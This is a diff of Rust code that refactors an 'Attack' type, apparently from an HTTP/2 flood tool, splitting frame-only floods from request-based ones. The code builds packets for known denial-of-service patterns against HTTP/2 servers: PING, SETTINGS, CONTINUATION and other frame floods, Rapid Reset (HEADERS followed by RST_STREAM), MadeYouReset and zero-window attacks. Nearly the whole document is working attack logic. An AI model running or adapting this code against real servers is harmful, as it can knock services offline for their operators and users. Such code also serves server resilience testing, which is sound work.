@@ -213,18 +213,29 @@ impl Attack {
     /// One unit of the attack; 0 when the attack has nothing to send now.
     fn one(&mut self, out: &mut Vec<u8>) -> u64 {
         match self.kind {
+            FloodKind::Reset
+            | FloodKind::MadeYouReset
+            | FloodKind::Hpack
+            | FloodKind::ZeroWindow => self.one_request(out),
+            _ => {
+                self.one_frame(out);
+                1
+            }
+        }
+    }
+
+    /// One frame of a flood that opens no stream.
+    fn one_frame(&mut self, out: &mut Vec<u8>) {
+        match self.kind {
             FloodKind::Ping => {
                 self.ping_payload += 1;
                 wire::frame(out, kind::PING, 0, 0, &self.ping_payload.to_be_bytes());
-                1
             }
             FloodKind::Settings => {
                 wire::settings(out, &[(wire::SETTINGS_ENABLE_PUSH, 0)]);
-                1
             }
             FloodKind::Window => {
                 wire::window_update(out, 0, 1);
-                1
             }
             FloodKind::Priority => {
                 // PRIORITY may name an idle stream (RFC 9113 §5.1); ids wrap below the limit.
@@ -235,64 +246,49 @@ impl Attack {
                     stream + 2
                 };
                 wire::priority(out, stream, 0, 16);
-                1
             }
             FloodKind::Unknown => {
                 wire::frame(out, kind::UNKNOWN, 0, 0, &[0u8; 16_384]);
-                1
             }
             FloodKind::EmptyData => {
                 wire::frame(out, kind::DATA, 0, 1, &[]);
-                1
             }
             FloodKind::Continuation => {
                 let mut field = Vec::with_capacity(300);
                 wire::hpack_literal(&mut field, b"x-continued", &[b'c'; 256]);
                 wire::frame(out, kind::CONTINUATION, 0, 1, &field);
-                1
             }
+            FloodKind::Reset
+            | FloodKind::MadeYouReset
+            | FloodKind::Hpack
+            | FloodKind::ZeroWindow => unreachable!("one_request sends these"),
+        }
+    }
+
+    /// A request (HEADERS with END_STREAM) on a new stream, then what the attack does to
+    /// it; 0 when no stream may be opened now.
+    fn one_request(&mut self, out: &mut Vec<u8>) -> u64 {
+        let Some(stream) = self.try_open() else {
+            return 0;
+        };
+        wire::frame(
+            out,
+            kind::HEADERS,
+            END_STREAM | END_HEADERS,
+            stream,
+            &self.block,
+        );
+        match self.kind {
             FloodKind::Reset => {
-                let Some(stream) = self.try_open() else {
-                    return 0;
-                };
-                wire::frame(
-                    out,
-                    kind::HEADERS,
-                    END_STREAM | END_HEADERS,
-                    stream,
-                    &self.block,
-                );
                 wire::rst_stream(out, stream, 0x8);
                 self.in_flight -= 1;
                 2
             }
             FloodKind::MadeYouReset => {
-                let Some(stream) = self.try_open() else {
-                    return 0;
-                };
-                wire::frame(
-                    out,
-                    kind::HEADERS,
-                    END_STREAM | END_HEADERS,
-                    stream,
-                    &self.block,
-                );
                 wire::window_update(out, stream, 0);
                 2
             }
-            FloodKind::Hpack | FloodKind::ZeroWindow => {
-                let Some(stream) = self.try_open() else {
-                    return 0;
-                };
-                wire::frame(
-                    out,
-                    kind::HEADERS,
-                    END_STREAM | END_HEADERS,
-                    stream,
-                    &self.block,
-                );
-                1
-            }
+            _ => 1,
         }
     }
 
